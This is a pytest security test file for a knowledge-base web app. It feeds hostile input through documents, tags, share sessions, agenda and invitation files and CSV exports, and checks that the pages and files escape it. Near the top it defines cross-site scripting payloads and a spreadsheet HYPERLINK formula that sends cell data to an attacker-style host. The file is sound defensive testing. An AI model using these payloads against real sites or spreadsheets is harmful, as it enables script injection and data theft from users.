"""Hostile text end to end: a document whose title, project, tags and lessons are markup, a tag with quotes, a share
session whose every field is markup. Every page the app serves (every GET route, with these in its path and query)
is parsed: no script of its own, no event handler, no javascript: link, no image from elsewhere; the Markdown
agenda, the invitation and the spreadsheets keep them as text."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest

from ingest import ingest
from kb.store import Store
from search import SearchIndex
from tests.web.conftest import login

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = '"><script>alert(2)</script>'
LINK = "javascript:alert(3)"
QUOTED = "it's \"quoted\" <b>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = f"{IMG} {SCRIPT}"


class _Checker(HTMLParser):
    """What a page would run or load that this site did not put there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script":
            self.in_script = True
            if not (values.get("src") or "").startswith("/static/"):
                self.found.append(f"script {attrs}")
        if tag in ("iframe", "object", "embed", "svg", "base") and not (values.get("src") or "").startswith("/"):
            self.found.append(f"<{tag}>")  # (the digest preview frames the digest: /curate/digest/raw)
        if tag == "img" and not (values.get("src") or "").startswith(("/", "data:image/")):
            self.found.append(f"img {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value and re.sub(
                    r"[\s\x00-\x1f]", "", value).lower().startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.found.append(f"inline script {data[:60]}")


def unsafe(body: str) -> list[str]:
    checker = _Checker()
    checker.feed(body)
    checker.close()
    return checker.found


def test_the_checker_finds_what_it_looks_for():
    assert unsafe(f"<p>{IMG}</p>") and unsafe(f'<a title="{SCRIPT}">') and unsafe(f'<a href=" {LINK}">x</a>')
    assert unsafe('<div onclick="x()">') and not unsafe('<script src="/static/js/app.js" defer></script>')
    assert not unsafe(f"<p>{IMG.replace('<', '&lt;')}</p>")


@pytest.fixture
def hostile(settings, tmp_path):
    """The test's collection with a hostile Markdown document in it, and its ids."""
    front = {"id": "evil/md", "title": f"Evil {HOSTILE}", "project": f"Proj {IMG}", "tags": [SCRIPT, QUOTED],
             "author": IMG}
    text = "---\n" + "\n".join(f"{k}: {json.dumps(v)}" for k, v in front.items()) + "\n---\n"
    text += (f"# Evil {HOSTILE}\n\n<script>alert(5)</script>\n\n[click]({LINK}) <a href=\"{LINK}\">raw</a>\n\n"
             f"## Lessons learned\n- {FORMULA} {HOSTILE} [click]({LINK})\n- @SUM(1+1) then {QUOTED}\n")
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "evil.md").write_text(text, encoding="utf-8")
    with Store(settings.db) as store:
        ingest(store, [folder])
        SearchIndex(store, settings).sync()
    return settings


def _session(client, token, lesson_id):
    headers = {"X-CSRF-Token": token}
    fields = {"title": f"Session {HOSTILE}", "theme": IMG, "location": SCRIPT, "audience": LINK,
              "description": f"{HOSTILE}\n[x]({LINK})", "presenters": [IMG, QUOTED], "scheduled_at": "2026-12-10T14:00"}
    session_id = client.post("/api/sessions", json=fields, headers=headers).get_json()["id"]
    item = client.post(f"/api/sessions/{session_id}/items", json={"lesson_id": lesson_id, "note": HOSTILE},
                       headers=headers).get_json()["item_id"]
    reply = client.patch(f"/api/sessions/{session_id}/items/{item}", headers=headers,
                         json={"presenter": SCRIPT, "minutes": f"{FORMULA} {IMG}", "duration_minutes": 20})
    assert reply.status_code == 200, reply.get_data(as_text=True)
    reply = client.patch(f"/api/sessions/{session_id}", json={"status": "scheduled"}, headers=headers)  # readers see it
    assert reply.status_code == 200, reply.get_data(as_text=True)
    return session_id


def test_every_page_keeps_hostile_text_as_text(app, client, hostile):
    token = login(client, "carl")
    doc = client.get("/api/documents/evil/md").get_json()
    assert doc["title"] == f"Evil {HOSTILE}"
    lesson_id = doc["lessons"][0]["id"]
    reply = client.post("/curate/tags/add", data={"csrf_token": token, "target": "lesson", "ref": str(lesson_id),
                                                  "tag": QUOTED.replace("<b>", "")})
    assert reply.status_code == 302
    session_id = _session(client, token, lesson_id)
    with Store(hostile.db) as store:
        store.add_subscriber("a@example.com", name=HOSTILE)
    values = {"key": "evil/md", "lesson_id": lesson_id, "session_id": session_id, "tag": SCRIPT, "code": "en", "fmt": "csv",
              "batch": SCRIPT, "token": SCRIPT, "filename": "css/app.css"}
    query = {"q": HOSTILE, "project": f"Proj {IMG}", "tag": SCRIPT, "next": LINK, "email": "a@example.com"}
    problems, pages = [], 0
    for who, visitor in (("curator", client), ("anonymous", app.test_client())):  # pages differ by role
        for rule in app.url_map.iter_rules():
            if "GET" not in (rule.methods or set()) or rule.endpoint in ("static", "favicon"):
                continue
            path = rule.build({a: values[a] for a in rule.arguments}, append_unknown=False)[1]
            for params in ({}, query):
                response = visitor.get(path, query_string=params)
                if response.mimetype == "text/html":
                    pages += 1
                    found = unsafe(response.get_data(as_text=True))
                    problems += [(who, rule.endpoint, params != {}, item) for item in found]
    assert pages > 80
    assert not problems, problems
    for shown in ("/documents/evil/md", "/curate/digest/raw?email=a@example.com"):  # a page, the mailed digest
        assert "Evil &lt;img src=x onerror=alert(1)&gt;" in client.get(shown).get_data(as_text=True), shown


def test_the_agenda_files_keep_hostile_text_as_text(client, hostile):
    token = login(client, "carl")
    lesson_id = client.get("/api/documents/evil/md").get_json()["lessons"][0]["id"]
    session_id = _session(client, token, lesson_id)
    agenda = client.get(f"/sessions/{session_id}/agenda.md").get_data(as_text=True)
    assert "<img" not in agenda and "<script" not in agenda and "](javascript" not in agenda.replace("\\](", "")
    assert "&lt;img src=x onerror=alert(1)&gt;" in agenda
    invitation = client.get(f"/sessions/{session_id}/invitation.ics").get_data(as_text=True)
    unfolded = invitation.replace("\r\n ", "")
    assert all(line.split(":")[0].split(";")[0] in {
        "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY",
        "LOCATION", "DESCRIPTION", "URL", "STATUS"} for line in unfolded.split("\r\n") if line), unfolded
    assert "LOCATION:\"><script>alert(2)</script>" in unfolded
    printable = client.get(f"/sessions/{session_id}/print").get_data(as_text=True)
    assert not unsafe(printable)


def test_spreadsheets_keep_formulas_as_text(client, hostile):
    token = login(client, "carl")
    lesson_id = client.get("/api/documents/evil/md").get_json()["lessons"][0]["id"]
    _session(client, token, lesson_id)
    body = client.get("/api/lessons", query_string={"format": "csv", "q": "HYPERLINK"}).get_data()
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    hyperlinked = [cell for cell in cells if "HYPERLINK" in cell]
    assert hyperlinked and all(cell.startswith("'") for cell in hyperlinked), hyperlinked
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells), [c for c in cells if c[:1] in "=+-@"]
